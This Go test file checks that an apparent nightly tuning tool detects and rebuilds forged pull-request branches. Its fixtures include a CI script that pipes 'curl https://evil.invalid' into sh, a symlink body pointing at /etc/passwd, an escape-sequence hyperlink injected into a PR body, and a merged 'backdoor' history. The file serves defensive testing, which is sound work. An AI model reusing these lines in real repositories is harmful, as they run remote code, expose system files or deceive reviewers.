package app

// The ninth review: commit 953642e (nightly --branch names its branch by the change and keeps an open
// pull request whose change the night proposes again). Its own project (one persistent clone that is
// also the cron's, genlive's strong planted regime) and hostile pushes to the branch.

import (
	"fmt"
	"github.com/ldd-tools/tune/internal/gitcmd"
	"maps"
	"regexp"
	"slices"
	"strconv"

	"github.com/ldd-tools/tune/internal/stats"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ldd-tools/tune/internal/testutil"
	"github.com/ldd-tools/tune/internal/tools/genlive"
)

// r9Project is a git project whose cron runs nightly --branch in its own work tree (a persistent clone;
// main is HEAD).
type r9Project struct {
	t    *testing.T
	dir  string
	home string
	log  string
	seq  *genlive.Sequence
	// night is the last night played.
	night int
	// strip, when set, is cut from every line the log gains (a hook that writes less).
	strip *regexp.Regexp
}

func newR9Project(t *testing.T, seed uint64) *r9Project {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	root := t.TempDir()
	p := &r9Project{t: t, dir: filepath.Join(root, "repo"), home: filepath.Join(root, "home"),
		log: filepath.Join(root, "team", ".ldd", "trace.log"),
		seq: genlive.NewSequence(seed, genlive.Regime{Base: 0.05, Planted: planted, Carrier: 0.95})}
	if err := testutil.CopyReference(p.dir); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(p.dir, ".gitignore"), []byte(strings.Join(GitignoreEntries, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(p.log), 0o755); err != nil {
		t.Fatal(err)
	}
	p.git("init", "-q", "-b", "main")
	p.git("add", "-A")
	p.git("commit", "-q", "-m", "start tune")
	return p
}

func (p *r9Project) gitIn(dir string, stdin string, args ...string) string {
	p.t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+p.home, "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=dev", "GIT_AUTHOR_EMAIL=dev@example.com",
		"GIT_COMMITTER_NAME=dev", "GIT_COMMITTER_EMAIL=dev@example.com", "GIT_TERMINAL_PROMPT=0")
	if stdin != "" {
		cmd.Stdin = strings.NewReader(stdin)
	}
	out, err := cmd.Output()
	if err != nil {
		var stderr string
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = string(ee.Stderr)
		}
		p.t.Fatalf("git %v: %v\n%s%s", args, err, out, stderr)
	}
	return strings.TrimSpace(string(out))
}

func (p *r9Project) git(args ...string) string { p.t.Helper(); return p.gitIn(p.dir, "", args...) }

func (p *r9Project) env(dir string, night int) Env {
	now := genlive.NightEnd(night).Add(7 * time.Hour)
	return Env{Now: func() time.Time { return now }, WeightsDir: filepath.Join(dir, "weights"),
		FixturesDir: filepath.Join(dir, "fixtures"), ReportsDir: filepath.Join(dir, "reports"), Root: dir}
}

var r9Body = func(string, string) ([]byte, error) { return []byte("body\n"), nil }

// grow appends the next night's tasks, generated under the weights main's HEAD holds.
func (p *r9Project) grow() {
	p.t.Helper()
	p.night++
	active, _, err := activeAt(filepath.Join(p.dir, "weights"))
	if err != nil {
		p.t.Fatal(err)
	}
	_, text := p.seq.Night(p.night, &active)
	if p.strip != nil {
		text[0] = p.strip.ReplaceAll(text[0], nil)
	}
	appendFile(p.t, p.log, text[0])
}

// run grows the log by a night and runs nightly --branch in the project.
func (p *r9Project) run() *NightlyResult {
	p.t.Helper()
	p.grow()
	res, err := NightlyBranch(p.env(p.dir, p.night), EvolveOptions{Logs: []string{p.log}}, r9Body)
	if err != nil {
		p.t.Fatalf("night %d: %v", p.night, err)
	}
	return res
}

// untilBranch plays nights until one leaves a change on a branch.
func (p *r9Project) untilBranch(max int) *BranchResult {
	p.t.Helper()
	for p.night < max {
		if res := p.run(); res.BranchResult != nil {
			return res.BranchResult
		}
	}
	p.t.Fatalf("no branch in %d nights", max)
	return nil
}

// forge rewrites the branch's tip as someone who can push to tune/* would: the same parent (HEAD), the
// same message, the tree edited by edit (paths and contents; "" deletes), with extra parents.
func (p *r9Project) forge(branch string, edit map[string]string, mode string, extraParents ...string) string {
	p.t.Helper()
	tip := p.git("rev-parse", branch)
	idx := filepath.Join(p.t.TempDir(), "index")
	g := func(stdin string, args ...string) string {
		p.t.Helper()
		cmd := exec.Command("git", args...)
		cmd.Dir = p.dir
		cmd.Env = append(os.Environ(), "HOME="+p.home, "GIT_CONFIG_NOSYSTEM=1", "GIT_INDEX_FILE="+idx,
			"GIT_AUTHOR_NAME=tune nightly", "GIT_AUTHOR_EMAIL=tune-nightly@users.noreply.invalid",
			"GIT_COMMITTER_NAME=tune nightly", "GIT_COMMITTER_EMAIL=tune-nightly@users.noreply.invalid")
		if stdin != "" {
			cmd.Stdin = strings.NewReader(stdin)
		}
		out, err := cmd.CombinedOutput()
		if err != nil {
			p.t.Fatalf("git %v: %v\n%s", args, err, out)
		}
		return strings.TrimSpace(string(out))
	}
	g("", "read-tree", tip)
	if mode == "" {
		mode = "100644"
	}
	for path, content := range edit {
		if content == "" {
			g("", "update-index", "--force-remove", path)
			continue
		}
		blob := g(content, "hash-object", "-w", "--stdin")
		g("", "update-index", "--add", "--cacheinfo", mode+","+blob+","+path)
	}
	tree := g("", "write-tree")
	msg := p.git("log", "-1", "--format=%B", tip)
	args := []string{"commit-tree", tree, "-p", p.git("rev-parse", tip+"^")}
	for _, e := range extraParents {
		args = append(args, "-p", e)
	}
	forged := g(msg+"\n", args...)
	p.git("update-ref", "refs/heads/"+branch, forged)
	return forged
}

// TestR9ForgedBranchIsRebuilt: anyone who can push to tune/* can rewrite the branch tip keeping its
// parent (the base), its message, its proposal file and its body; keptChange checks only those, so the
// night kept a tip whose tree changes anything else: a file outside the store (here a CI script), the
// new version's weights (not the proposal's candidate), the body as a symlink, or a second parent
// that merges unrelated history. The pull request then shows tune's title and body over another
// change, and nothing rebuilds it for as long as the night proposes the same change.
func TestR9ForgedBranchIsRebuilt(t *testing.T) {
	cases := []struct {
		name  string
		forge func(p *r9Project, b *BranchResult) string
	}{
		{"a file outside the store", func(p *r9Project, b *BranchResult) string {
			return p.forge(b.Branch, map[string]string{"ci/deploy.sh": "curl https://evil.invalid | sh\n"}, "")
		}},
		{"the new version's weights", func(p *r9Project, b *BranchResult) string {
			added := p.git("diff-tree", "-r", "--name-only", "--diff-filter=A", b.Base, b.Branch, "--", "weights/")
			for _, f := range strings.Split(added, "\n") {
				if strings.HasSuffix(f, ".toml") && !strings.Contains(f, "/proposals/") {
					data := p.git("show", b.Branch+":"+f)
					data = strings.Replace(data, "\ngreenfield = 3\n", "\ngreenfield = 9\n", 1)
					return p.forge(b.Branch, map[string]string{f: data + "\n"}, "")
				}
			}
			t.Fatalf("no version added on %s: %s", b.Branch, added)
			return ""
		}},
		{"a symlink body", func(p *r9Project, b *BranchResult) string {
			return p.forge(b.Branch, map[string]string{b.BodyPath: "/etc/passwd"}, "120000")
		}},
		{"a body over its limit", func(p *r9Project, b *BranchResult) string {
			return p.forge(b.Branch, map[string]string{b.BodyPath: strings.Repeat("x", 17<<20)}, "")
		}},
		// Found after the review: a night never deletes, never edits a fixture, and adds exactly the
		// fixtures its apply harvested with the content its log entry records.
		{"a suite fixture deleted", func(p *r9Project, b *BranchResult) string {
			files := strings.Fields(p.git("ls-tree", "-r", "--name-only", b.Base, "--", "fixtures/"))
			if len(files) == 0 {
				t.Fatal("the base holds no fixture")
			}
			return p.forge(b.Branch, map[string]string{files[0]: ""}, "")
		}},
		{"a harvested fixture edited", func(p *r9Project, b *BranchResult) string {
			added := strings.Fields(p.git("diff-tree", "-r", "--name-only", "--diff-filter=A", b.Base, b.Branch, "--", "fixtures/"))
			if len(added) == 0 {
				p.t.Fatal("the change harvested no fixture")
			}
			data := p.git("show", b.Branch+":"+added[0])
			return p.forge(b.Branch, map[string]string{added[0]: data + "\n# and one more line\n"}, "")
		}},
		{"a fixture added", func(p *r9Project, b *BranchResult) string {
			return p.forge(b.Branch, map[string]string{"fixtures/extra.toml": "# not harvested\n"}, "")
		}},
		{"a second parent", func(p *r9Project, b *BranchResult) string {
			blob := p.gitIn(p.dir, "evil\n", "hash-object", "-w", "--stdin")
			evilTree := p.gitIn(p.dir, "100644 blob "+blob+"\tbackdoor.txt\n", "mktree")
			evil := p.gitIn(p.dir, "unrelated history\n", "commit-tree", evilTree)
			return p.forge(b.Branch, nil, "", evil)
		}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := newR9Project(t, 3)
			if strings.Contains(c.name, "harvested") {
				// Signals re-detected from the title: the flagged tasks' titles are harvested as fixtures.
				p.strip = regexp.MustCompile(`  signals=[^ \n]*`)
			}
			b := p.untilBranch(30)
			forged := c.forge(p, b)
			if c.name != "a second parent" && p.git("rev-parse", forged+"^{tree}") == p.git("rev-parse", b.Commit+"^{tree}") {
				t.Fatal("the forgery left the tree as it was")
			}
			res := p.run()
			if res.BranchResult == nil || res.Branch != b.Branch {
				t.Skipf("night %d proposes another change (%v): the forgery is not put to the test", p.night, res.BranchResult)
			}
			if !res.BranchUpdated || res.Commit == forged {
				t.Errorf("night %d kept the forged tip %s of %s (branch_updated %v, branch_proposal %s): it should rebuild the branch",
					p.night, gitcmd.Short(forged), b.Branch, res.BranchUpdated, res.BranchProposal)
			}
			if got := p.git("rev-parse", b.Branch); got == forged {
				t.Errorf("%s still points at the forged commit", b.Branch)
			}
		})
	}
	// A pushed body is not checked against anything (the branch cannot be re-rendered), but what the
	// night hands the recipe for the pull request carries no escape sequence.
	t.Run("a body with an escape sequence", func(t *testing.T) {
		p := newR9Project(t, 3)
		b := p.untilBranch(30)
		body := p.git("show", b.Branch+":"+b.BodyPath)
		p.forge(b.Branch, map[string]string{b.BodyPath: body + "\n\x1b]8;;https://evil.invalid\x1b\\click\x1b]8;;\x1b\\\n"}, "")
		res := p.run()
		if res.BranchResult == nil || res.Branch != b.Branch {
			t.Skipf("night %d proposes another change", p.night)
		}
		data, err := os.ReadFile(res.BodyFile)
		if err != nil {
			t.Fatal(err)
		}
		if strings.ContainsRune(string(data), 0x1b) {
			t.Errorf("the body file handed to the recipe carries an escape sequence:\n%q", data)
		}
	})
	// The controls: the untouched branch is kept, also when its apply harvested fixtures.
	t.Run("untouched, with harvested fixtures", func(t *testing.T) {
		p := newR9Project(t, 3)
		p.strip = regexp.MustCompile(`  signals=[^ \n]*`)
		b := p.untilBranch(30)
		if p.git("diff-tree", "-r", "--name-only", "--diff-filter=A", b.Base, b.Branch, "--", "fixtures/") == "" {
			t.Fatal("the change harvested no fixture")
		}
		res := p.run()
		if res.BranchResult == nil || res.Branch != b.Branch {
			t.Skipf("night %d proposes another change", p.night)
		}
		if res.BranchUpdated || res.Commit != b.Commit {
			t.Errorf("night %d rebuilt the untouched branch %s", p.night, b.Branch)
		}
	})
	t.Run("untouched", func(t *testing.T) {
		p := newR9Project(t, 3)
		b := p.untilBranch(30)
		res := p.run()
		if res.BranchResult == nil || res.Branch != b.Branch {
			t.Skipf("night %d proposes another change", p.night)
		}
		if res.BranchUpdated || res.Commit != b.Commit {
			t.Errorf("night %d rebuilt the untouched branch %s", p.night, b.Branch)
		}
	})
}

// r9Arm plays one project where the reviewer merges the first pull request after it waited `wait`
// nights; newest: the branch ref is deleted before every night, so the night rebuilds it from its
// own (newest) proposal instead of keeping the first; noMeta strips weights= from the log (a hook
// that does not write it). It returns what happened after the merge.
type r9Outcome struct {
	merged        bool
	mergedAt      int
	mergedProp    string
	verifyOK      bool
	baseOK        bool
	after         []string // "n<night> <review> <title without id>" for each review after the merge
	rollback      int      // nights after the merge whose review is a rollback
	secondChange  int      // nights after the merge that propose another change
	verdicts      map[string]int
	keptNights    int
	firstAfter    string // the first watch after the merge: tasks after / moved
	firstMoved    string // the same without the tasks after: the moved tasks and the verdict
	changedBranch int    // the open branch's change changed (another branch) before the merge
}

var r9Meta = regexp.MustCompile(`  weights=v[0-9]{4}`)

func r9Arm(t *testing.T, seed uint64, wait, nights int, newest, noMeta bool) r9Outcome {
	p := newR9Project(t, seed)
	out := r9Outcome{verdicts: map[string]int{}}
	open, openedAt := "", 0
	for night := 1; night <= nights; night++ {
		// The reviewer's morning.
		if open != "" && !out.merged && night-1-openedAt >= wait {
			pre := p.git("rev-parse", "HEAD")
			if seed%2 == 0 {
				p.git("merge", "-q", "--no-ff", "--no-edit", open)
			} else {
				p.git("merge", "-q", "--squash", open)
				p.git("commit", "-q", "-m", "squashed "+open)
			}
			out.merged, out.mergedAt = true, night
			out.mergedProp = committedProp(p, open)
			v, err := Verify(filepath.Join(p.dir, "weights"), filepath.Join(p.dir, "fixtures"), "")
			out.verifyOK = err == nil && v.Intact
			_, probs, err := VerifyBase(filepath.Join(p.dir, "weights"), pre)
			out.baseOK = err == nil && len(probs) == 0
			if !out.baseOK {
				t.Logf("seed %d: verify --base after merging %s: %v %v", seed, open, err, probs)
			}
		}
		if newest && open != "" && !out.merged {
			p.git("update-ref", "-d", "refs/heads/"+open)
		}
		p.night = night - 1
		if noMeta {
			p.night++
			active, _, err := activeAt(filepath.Join(p.dir, "weights"))
			if err != nil {
				t.Fatal(err)
			}
			_, text := p.seq.Night(p.night, &active)
			appendFile(t, p.log, r9Meta.ReplaceAll(text[0], nil))
		} else {
			p.grow()
		}
		res, err := NightlyBranch(p.env(p.dir, night), EvolveOptions{Logs: []string{p.log}}, r9Body)
		if err != nil {
			t.Fatalf("seed %d night %d: %v", seed, night, err)
		}
		if res.Watch != nil && res.Watch.Result != nil && out.merged {
			out.verdicts[res.Watch.Verdict]++
			if out.firstAfter == "" {
				out.firstAfter = fmt.Sprintf("%s: %d tasks after, %d moved, %s", res.Watch.Version, res.Watch.TasksAfter, res.Watch.Moved, res.Watch.Verdict)
				out.firstMoved = fmt.Sprintf("%s: %d moved, %s", res.Watch.Version, res.Watch.Moved, res.Watch.Verdict)
			}
		}
		b := res.BranchResult
		if b == nil {
			continue
		}
		title := proposalID.ReplaceAllString(b.Title, "p-…")
		if out.merged {
			out.after = append(out.after, fmt.Sprintf("n%d %s %s", night, res.Review, title))
			if res.Review == ReviewRollback {
				out.rollback++
			} else {
				out.secondChange++
			}
			continue
		}
		switch {
		case open == "":
			open, openedAt = b.Branch, night
		case b.Branch != open:
			out.changedBranch++
			open, openedAt = b.Branch, night
		case !b.BranchUpdated && b.BranchProposal != res.ReviewProposal:
			out.keptNights++
		}
	}
	return out
}

func committedProp(p *r9Project, rev string) string {
	for _, l := range strings.Split(p.git("log", "-1", "--format=%B", rev), "\n") {
		if v, ok := strings.CutPrefix(l, "Proposal: "); ok {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

// TestR9KeptVersusNewestMerge: the same project, merged after the pull request waited three nights,
// with the kept (first) proposal or the night's newest one; the logs are the same until the merge and,
// with the same weights merged, after it. What differs is the evidence the merge spends and the date
// of the applied version. Asserted: every merge verifies, alone and against the main before it, and
// the two arms see the same moved tasks and verdicts after the merge, with and without weights= in the
// log. In the suite 2 seeds (a merge commit and a squash); TUNE_R9_SEEDS=1,…,16 is the measured run.
func TestR9KeptVersusNewestMerge(t *testing.T) {
	seeds := []uint64{3, 4}
	if v := os.Getenv("TUNE_R9_SEEDS"); v != "" {
		seeds = nil
		for _, f := range strings.Split(v, ",") {
			n, _ := strconv.ParseUint(f, 10, 64)
			seeds = append(seeds, n)
		}
	}
	const wait, nights = 3, 30
	for _, noMeta := range []bool{false, true} {
		type tally struct{ n, merged, verify, base, rollback, second, kept int }
		var arms [2]tally
		for _, seed := range seeds {
			var outs [2]r9Outcome
			for i, newest := range []bool{false, true} {
				o := r9Arm(t, seed, wait, nights, newest, noMeta)
				outs[i] = o
				a := &arms[i]
				a.n++
				if !o.merged {
					continue
				}
				if !o.verifyOK || !o.baseOK {
					t.Errorf("noMeta %v seed %d newest %v: the merged main does not verify (alone %v, against the main before %v)", noMeta, seed, newest, o.verifyOK, o.baseOK)
				}
				a.merged++
				if o.verifyOK {
					a.verify++
				}
				if o.baseOK {
					a.base++
				}
				if o.rollback > 0 {
					a.rollback++
				}
				if o.secondChange > 0 {
					a.second++
				}
				a.kept += o.keptNights
				t.Logf("noMeta %v seed %d newest %v: merged %s night %d (kept nights %d, changed %d); first watch %s; verdicts %v; after: %v",
					noMeta, seed, newest, o.mergedProp, o.mergedAt, o.keptNights, o.changedBranch, o.firstAfter, o.verdicts, o.after)
			}
			if outs[0].firstMoved != outs[1].firstMoved || !maps.Equal(outs[0].verdicts, outs[1].verdicts) {
				t.Errorf("noMeta %v seed %d: after merging the kept proposal the watch saw %q, verdicts %v; after merging the newest %q, %v",
					noMeta, seed, outs[0].firstMoved, outs[0].verdicts, outs[1].firstMoved, outs[1].verdicts)
			}
		}
		for i, name := range []string{"kept (first) proposal", "newest proposal"} {
			a := arms[i]
			lo, hi := stats.Wilson(a.rollback, a.merged, 0.95)
			t.Logf("noMeta %v, %s: merged %d/%d; verify %d, verify --base %d; rolled back %d/%d [%.1f, %.1f] %%; another change after %d; kept nights %d",
				noMeta, name, a.merged, a.n, a.verify, a.base, a.rollback, a.merged, 100*lo, 100*hi, a.second, a.kept)
		}
	}
}

// TestR9FreshCloneEqualsPersistentClone: every night, a fresh clone of the project (the tune/ branches
// fetched, no nightly state) and the persistent clone (its states carried night to night) give the
// same review, the same branch, the same commit and the same body bytes.
func TestR9FreshCloneEqualsPersistentClone(t *testing.T) {
	nights, same, branches := 0, 0, 0
	for _, seed := range []uint64{3, 5} {
		p := newR9Project(t, seed)
		merged := false
		for night := 1; night <= 22; night++ {
			p.grow()
			fresh := filepath.Join(t.TempDir(), "fresh")
			p.gitIn(filepath.Dir(fresh), "", "clone", "-q", p.dir, fresh)
			p.gitIn(fresh, "", "fetch", "-q", "origin", "+refs/heads/tune/*:refs/heads/tune/*")
			opts := EvolveOptions{Logs: []string{p.log}}
			rf, err := NightlyBranch(p.env(fresh, night), opts, r9Body)
			if err != nil {
				t.Fatal(err)
			}
			rp, err := NightlyBranch(p.env(p.dir, night), opts, r9Body)
			if err != nil {
				t.Fatal(err)
			}
			nights++
			key := func(r *NightlyResult) string {
				s := r.Review + " " + r.ReviewProposal
				if b := r.BranchResult; b != nil {
					body, _ := os.ReadFile(b.BodyFile)
					s += fmt.Sprintf(" %s %s %s %v %v %x", b.Branch, b.BranchProposal, b.Commit, b.BranchUpdated, b.Supersedes, body)
				}
				return s
			}
			if kf, kp := key(rf), key(rp); kf != kp {
				t.Errorf("seed %d night %d: fresh clone %q, persistent %q", seed, night, kf, kp)
			} else {
				same++
			}
			if rp.BranchResult != nil {
				branches++
				if !merged && night >= 15 { // merge once, so that the nights after judge an applied version
					p.git("merge", "-q", "--no-ff", "--no-edit", rp.Branch)
					merged = true
				}
			}
		}
	}
	lo, hi := stats.Wilson(same, nights, 0.95)
	t.Logf("fresh = persistent on %d/%d nights [%.1f, %.1f] %% (%d with a branch)", same, nights, 100*lo, 100*hi, branches)
}

// TestR9SupersededByAForgedProposalLine: a tune/ branch is left out of supersedes when its commit
// names a proposal whose file the base holds. Anyone who can push to tune/* can name a merged
// proposal on any commit, and the recipes never close that branch; and a proposal file committed on
// main by hand (tune nightly run in a developer's work tree, git add -A) makes an open branch look
// merged.
func TestR9SupersededByAForgedProposalLine(t *testing.T) {
	p := newR9Project(t, 3)
	b := p.untilBranch(30)
	id := committedProp(p, b.Branch)
	// Another change is open at the same time; then the first is merged (squash).
	p.git("merge", "-q", "--squash", b.Branch)
	p.git("commit", "-q", "-m", "squashed "+b.Branch)
	head := p.git("rev-parse", "HEAD")
	blob := p.gitIn(p.dir, "not tune's\n", "hash-object", "-w", "--stdin")
	tree := p.gitIn(p.dir, "100644 blob "+blob+"\tREADME\n", "mktree")
	evil := p.gitIn(p.dir, "anything\n\nProposal: "+id+"\n", "commit-tree", tree)
	p.git("update-ref", "refs/heads/tune/v0001-000000000000", evil)
	got, err := superseded(gitcmd.Repo{Dir: p.dir}, head, "", "weights")
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(got, "tune/v0001-000000000000") {
		t.Errorf("supersedes %v: the branch whose commit only names a merged proposal is never closed", got)
	}
}

// TestR9MainMovesUnderAnOpenRequest: an unrelated commit on main rebuilds the open branch once, under
// the same name, the next night keeps the rebuilt one, and the rebuilt branch merges cleanly and
// verifies (with --base) on main.
func TestR9MainMovesUnderAnOpenRequest(t *testing.T) {
	rebuiltOnce, keptAfter, merges := 0, 0, 0
	seeds := []uint64{3, 4, 6}
	for _, seed := range seeds {
		p := newR9Project(t, seed)
		b := p.untilBranch(30)
		if err := os.WriteFile(filepath.Join(p.dir, "NOTES.md"), []byte("unrelated\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		p.git("add", "NOTES.md")
		p.git("commit", "-q", "-m", "unrelated")
		r1 := p.run()
		if r1.BranchResult == nil || r1.Branch != b.Branch {
			t.Logf("seed %d night %d: another change (%v)", seed, p.night, r1.BranchResult)
			continue
		}
		if !r1.BranchUpdated || r1.Base != p.git("rev-parse", "HEAD") || r1.BranchProposal != r1.ReviewProposal {
			t.Errorf("seed %d night %d: main moved, yet the branch was not rebuilt on it: %+v", seed, p.night, r1.BranchResult)
		} else {
			rebuiltOnce++
		}
		r2 := p.run()
		if r2.BranchResult != nil && r2.Branch == b.Branch {
			if r2.BranchUpdated || r2.Commit != r1.Commit {
				t.Errorf("seed %d night %d: the rebuilt branch was rebuilt again on the same base", seed, p.night)
			} else {
				keptAfter++
			}
		}
		pre := p.git("rev-parse", "HEAD")
		p.git("merge", "-q", "--no-ff", "--no-edit", b.Branch)
		v, err := Verify(filepath.Join(p.dir, "weights"), filepath.Join(p.dir, "fixtures"), "")
		_, probs, berr := VerifyBase(filepath.Join(p.dir, "weights"), pre)
		if err != nil || !v.Intact || berr != nil || len(probs) > 0 {
			t.Errorf("seed %d: the merged rebuilt branch does not verify: %v %+v %v %v", seed, err, v, berr, probs)
		} else {
			merges++
		}
	}
	t.Logf("%d seeds: rebuilt once %d, kept the night after %d, merged and verified %d", len(seeds), rebuiltOnce, keptAfter, merges)
}

// TestR9WatchCountsTheOpenRequestsNightsForTheMergedVersion: the merged version is dated by the kept
// proposal's created time, the night the pull request was opened, not by the merge. A log without
// weights= (a hook that does not write it; the watch then attributes by meta time) had every task of
// the nights the request stayed open, dispatched under the parent, counted as the merged version's:
// the moved ones as trials of the change. Measured (TestR9KeptVersusNewestMerge, 16 seeds, wait 3):
// 9 of 9 merges, 39–64 tasks after on the first watch against 9–19, 3–7 moved against 0–3.
// Fixed in the watch: a moved auto task at the parent's level is the parent's
// (docs/decisions.md#the-watch-dates-a-task-by-its-level-when-the-log-does-not-say). The tasks the
// change does not move still count as after by their time (they say nothing about the version): the
// evidence and the verdicts are what must agree with merging the night's newest proposal.
func TestR9WatchCountsTheOpenRequestsNightsForTheMergedVersion(t *testing.T) {
	kept := r9Arm(t, 3, 3, 17, false, true)
	newest := r9Arm(t, 3, 3, 17, true, true)
	if !kept.merged || !newest.merged {
		t.Fatalf("no merge: %+v %+v", kept, newest)
	}
	if kept.firstMoved != newest.firstMoved || !maps.Equal(kept.verdicts, newest.verdicts) {
		t.Errorf("after the merge of the kept proposal: first watch %s, verdicts %v; of the newest (same weights, same logs): %s, %v",
			kept.firstAfter, kept.verdicts, newest.firstAfter, newest.verdicts)
	}
}
